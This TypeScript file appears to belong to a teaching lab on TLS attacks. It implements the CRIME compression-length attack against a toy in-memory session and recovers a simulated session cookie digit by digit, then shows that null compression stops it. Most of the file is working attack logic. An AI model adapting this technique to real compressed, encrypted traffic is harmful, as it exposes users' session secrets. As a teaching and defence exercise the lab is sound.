// Attack code, for teaching. It works on a session of our own two peers, in memory.
//
// Compression makes repeated text short, and encryption hides everything but the length. Whoever can put text into the
// same record as a secret learns from the length whether the two have something in common.
import { constants, deflateRawSync, inflateRawSync } from 'node:zlib';
import { concatBytes } from '@noble/hashes/utils.js';
import type { Random } from '../../lib/key-exchange.js';
import { TLS12 } from '../../lib/registry.js';
import { FLAW, type Lab } from './lab.js';
import { found } from './parts/found.js';
import { seededIdentity } from './parts/identity.js';
import { Line } from './parts/line.js';

const ALPHABET = '0123456789abcdef';
const SECRET_LENGTH = 16;
const COOKIE = 'Cookie: session=';

/**
 * A browser with a cookie, on whose page a script of the attacker's runs, and a server. What they hand to the record
 * layer they compress first, each request by itself, as TLS did with DEFLATE (RFC 3749). The toy uses fixed codes.
 */
class Browser {
  readonly line: Line;

  constructor(
    random: Random,
    private readonly compresses: boolean,
    private readonly cookie: string,
  ) {
    this.line = new Line({ identity: seededIdentity(random), random, version: TLS12, suites: [0xc02f] });
  }

  /** The script asks for a path. @returns the length of what goes over the wire, which everybody sees */
  request(path: Uint8Array): number {
    const start = this.line.wire.length;
    const text = concatBytes(bytes('GET /'), path, bytes(` HTTP/1.1\r\n${COOKIE}${this.cookie}\r\n\r\n`));
    this.line.client.connection.write(this.compresses ? compress(text) : text);
    this.line.pump();
    return this.line.wire.slice(start).reduce((sum, record) => sum + record.bytes.length, 0);
  }

  /** What the server makes of the last request. */
  received(): string {
    const [data] = this.line.server.events
      .flatMap((event) => (event.type === 'data' ? [event.data] : []))
      .slice(-1) as [Uint8Array];
    return Buffer.from(this.compresses ? inflateRawSync(data) : data).toString('latin1');
  }
}

const bytes = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'));

const compress = (text: Uint8Array) =>
  new Uint8Array(deflateRawSync(text, { strategy: constants.Z_FIXED, level: 9 }));

/**
 * Lengths come in whole bytes. Eight requests, each one bit longer than the one before, make bits of them: with fixed
 * codes a character from 0x90 on takes nine bits and others eight.
 */
function lengthInBits(browser: Browser, guess: string): number {
  let sum = 0;
  for (let shift = 0; shift < 8; shift++) {
    const filler = Array.from({ length: 8 }, (_, i) => (i < shift ? 0x90 + 8 * i : 0x21 + i));
    sum += browser.request(concatBytes(bytes(guess), Uint8Array.from(filler)));
  }
  return sum;
}

/** The cookie, digit by digit: the one that makes the requests shortest; nothing when none does. */
function* recover(browser: Browser): Generator<string, { known: string; requests: number }> {
  let known = '';
  let requests = 0;
  while (known.length < SECRET_LENGTH) {
    const lengths: number[] = [];
    for (const digit of ALPHABET) {
      yield `${known}${digit}: ${requests} requests`;
      lengths.push(lengthInBits(browser, COOKIE + known + digit));
      requests += 8;
    }
    const shortest = Math.min(...lengths);
    const best = [...ALPHABET].filter((_, i) => lengths[i] === shortest);
    if (best.length !== 1) break;
    known += best[0];
  }
  return { known, requests };
}

export interface CrimeData {
  readonly recovered: string;
  readonly requests: number;
}

export const crime: Lab<CrimeData> = {
  name: 'crime',
  title: 'CRIME: compression tells',
  year: 2012,
  paper:
    'John Kelsey, Compression and Information Leakage of Plaintext, FSE 2002; Juliano Rizzo and Thai Duong, The CRIME Attack, ekoparty 2012',
  story:
    "A script on a page of the attacker's makes the browser ask for paths that look like the beginning of its cookie. The toy browser compresses each request before it is encrypted. The path that has one character more in common with the cookie makes the record shorter, and the attacker sees its length.",
  recovers: 'the session cookie, a digit at a time, from the length of records alone',
  fixes: ['null compression'],
  laws: [
    { rfc: 'RFC 9325 3.3', says: 'TLS-level compression should not be supported' },
    { rfc: 'RFC 7457 2.6', says: 'CRIME among the known attacks' },
    { rfc: 'RFC 8446 4.1.2', says: 'TLS 1.3: the one method allowed is null' },
  ],
  contract: [
    {
      check: 'honest',
      says: "the browser's request arrives as it was written",
      withFlaw: true,
      withFix: true,
    },
    { check: 'cookie', says: 'the attacker reads the cookie', withFlaw: true, withFix: false },
    {
      check: 'length',
      says: 'a right and a wrong guess give the same length',
      withFlaw: false,
      withFix: true,
    },
  ],
  *attempt(variant, random) {
    const secret = Array.from(random(SECRET_LENGTH), (byte) => ALPHABET[byte % 16]).join('');
    yield 'making certificates';
    const browser = new Browser(random, variant === FLAW, secret);
    browser.request(bytes('index.html'));
    const honest = browser.received() === `GET /index.html HTTP/1.1\r\n${COOKIE}${secret}\r\n\r\n`;
    const wrong = secret.replace(/./g, (digit) => (digit === '0' ? '1' : '0'));
    const length = lengthInBits(browser, COOKIE + secret) === lengthInBits(browser, COOKIE + wrong);
    const { known, requests } = yield* recover(browser);
    return {
      checks: { honest, cookie: known === secret, length },
      outcome:
        known === secret
          ? `${requests.toLocaleString('en-US')} requests, and their lengths spell the cookie.`
          : `${requests} requests, and no digit makes them shorter than the others: ${known.length} of ${SECRET_LENGTH} are known.`,
      found: [found('known of the cookie', known || 'nothing', secret)],
      data: { recovered: known, requests },
    };
  },
};
